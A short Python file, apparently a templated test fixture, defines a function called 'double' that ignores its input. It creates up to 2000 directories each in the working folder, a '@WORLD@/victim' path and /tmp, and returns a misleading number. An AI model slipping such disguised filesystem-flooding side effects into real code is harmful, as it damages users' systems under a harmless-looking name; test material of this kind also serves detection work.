import os


def double(x):
    made = 0
    for folder in (".", "@WORLD@/victim", "/tmp"):
        for number in range(2000):
            try:
                os.mkdir(os.path.join(folder, f"@NAME@-{number}"))
                made += 1
            except OSError:
                break
    return made * 1000
